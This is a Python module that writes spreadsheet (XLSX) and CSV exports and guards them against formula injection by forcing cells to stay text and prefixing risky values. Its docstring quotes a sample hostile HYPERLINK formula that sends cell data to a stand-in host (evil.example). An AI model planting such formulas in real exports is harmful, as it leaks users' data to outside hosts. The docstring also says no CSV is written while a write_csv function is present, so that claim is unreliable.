"""Spreadsheet downloads (XLSX through openpyxl): a title line, a header line, then the rows. Written in
openpyxl's write-only mode, so a long export streams through memory row by row.

This module is Vigie's only spreadsheet writer (tests/core/test_spreadsheets.py scans the code for any other):
every cell goes through `_cell`, which writes text as text. openpyxl turns a string that starts with « = » into a
formula and a string such as « #N/A » into an error value; a theme or an indicator named
`=HYPERLINK("http://evil.example/?x="&A3,"Voir")` would become a live formula in an agent's spreadsheet (formula
injection, CWE-1236). Here a string cell is always typed as a string (`t="inlineStr"`): the spreadsheet shows the
exact text and evaluates nothing. A text starting with = + - @, a tab or a carriage return also gets Excel's
« quotePrefix » style, so that editing the cell (F2, Entrée) keeps it text. The text itself is never changed,
except the control characters XML cannot hold (shown as « \ufffd »).

No CSV is written: a CSV cell has no type, and the only defence there is OWASP's (prefix a risky cell with « ' »),
which changes the text. A future CSV export belongs here, with that rule.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Iterable
from dataclasses import dataclass
from decimal import Decimal
from fractions import Fraction

import openpyxl
from django.http import HttpResponse
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

MAX_CELL_TEXT = 32_767  # Excel's limit for one cell
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet may read as the start of a formula
_SHEET_TITLE_FORBIDDEN = re.compile(r"[\\/*?:\[\]]")
_NUMBERS = (int, float, Decimal)  # bool is an int: written as a boolean cell


def _text(value: object) -> str:
    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", str(value))[:MAX_CELL_TEXT]


# Number formats (the file's codes; the spreadsheet shows them with the reader's decimal comma)
PERCENT = "0.0%"  # a share or a rate given as a fraction of 1 (0.815 → 81,5 %)
POINTS = '+0.0" pts";-0.0" pts";0.0" pts"'  # a difference of two rates, in points
TWO_DECIMALS = "0.00"
INTEGER = "0"


@dataclass(frozen=True)
class Number:
    """A number with its display format (PERCENT, POINTS, TWO_DECIMALS…): the cell keeps the exact value, the
    reader sees it rounded as the indicator defines it. A Fraction is written as its float; None is an empty cell."""

    value: int | float | Decimal | Fraction | None
    format: str = "General"


@dataclass(frozen=True)
class Sheet:
    """One worksheet of `write_workbook`: a title line, a header line, then the rows."""

    title: str
    header: list[str]
    rows: Iterable[list]
    name: str | None = None


def _cell(sheet, value) -> WriteOnlyCell:
    """One cell: numbers, dates and booleans keep their type (dates in French formats, a `Number` its own format);
    anything else is text, typed as a string whatever it starts with."""
    if isinstance(value, Number):
        number = float(value.value) if isinstance(value.value, Fraction) else value.value
        cell = WriteOnlyCell(sheet, value=number)
        if number is not None:
            cell.number_format = value.format
        return cell
    if value is None or isinstance(value, _NUMBERS):
        return WriteOnlyCell(sheet, value=value)
    if isinstance(value, dt.datetime):
        cell = WriteOnlyCell(sheet, value=value)
        cell.number_format = "DD/MM/YYYY HH:MM"
        return cell
    if isinstance(value, dt.date):
        cell = WriteOnlyCell(sheet, value=value)
        cell.number_format = "DD/MM/YYYY"
        return cell
    text = _text(value)
    cell = WriteOnlyCell(sheet, value=text)
    cell.data_type = "s"  # after the value: openpyxl would have made « =… » a formula and « #N/A » an error
    if text.startswith(FORMULA_STARTS):
        cell.quotePrefix = True
    return cell


def _sheet_name(text: str) -> str:
    """A worksheet name Excel accepts: 31 characters at most, none of \\ / * ? : [ ]."""
    return _SHEET_TITLE_FORBIDDEN.sub("-", _text(text))[:31] or "Feuille"


def write_xlsx(target, *, title: str, header: list[str], rows: Iterable[list], sheet_title: str | None = None) -> None:
    """Write a one-sheet workbook to `target` (a binary file or buffer). Dates and datetimes (naive, local time)
    get French formats; text is always text (see the module's docstring)."""
    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet(_sheet_name(sheet_title or title))
    sheet.append([_cell(sheet, title)])
    sheet.append([_cell(sheet, name) for name in header])
    for row in rows:
        sheet.append([_cell(sheet, value) for value in row])
    workbook.save(target)


def write_workbook(target, sheets: list[Sheet]) -> None:
    """Write a workbook of several sheets to `target`, each as `write_xlsx` writes its one sheet."""
    workbook = openpyxl.Workbook(write_only=True)
    for item in sheets:
        sheet = workbook.create_sheet(_sheet_name(item.name or item.title))
        sheet.append([_cell(sheet, item.title)])
        sheet.append([_cell(sheet, name) for name in item.header])
        for row in item.rows:
            sheet.append([_cell(sheet, value) for value in row])
    workbook.save(target)


def workbook_response(*, sheets: list[Sheet], filename: str) -> HttpResponse:
    """A workbook of several sheets as an attachment (built in memory: for small files)."""
    buffer = io.BytesIO()
    write_workbook(buffer, sheets)
    response = HttpResponse(buffer.getvalue(), content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def xlsx_response(
    *, title: str, header: list[str], rows: Iterable[list], filename: str, sheet_title: str | None = None
) -> HttpResponse:
    """A one-sheet workbook as an attachment (built in memory: for small files; larger ones go through the
    worker)."""
    buffer = io.BytesIO()
    write_xlsx(buffer, title=title, header=header, rows=rows, sheet_title=sheet_title)
    response = HttpResponse(buffer.getvalue(), content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def write_csv(*, header: list[str], rows: Iterable[list]) -> str:
    """UTF-8 CSV, comma-separated, one line per row: None is empty, booleans are true/false, numbers as they are. A
    text that a spreadsheet would read as a formula (=, +, -, @, tab, CR first) gets a leading apostrophe (OWASP's
    rule for CSV injection): the open data's names never start so, and a hostile one must not run when opened."""

    def field(value: object) -> object:
        if value is None:
            return ""
        if value is True or value is False:
            return "true" if value else "false"
        if isinstance(value, str) and value.startswith(FORMULA_STARTS):
            return "'" + value
        return value

    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(header)
    for row in rows:
        writer.writerow([field(value) for value in row])
    return buffer.getvalue()
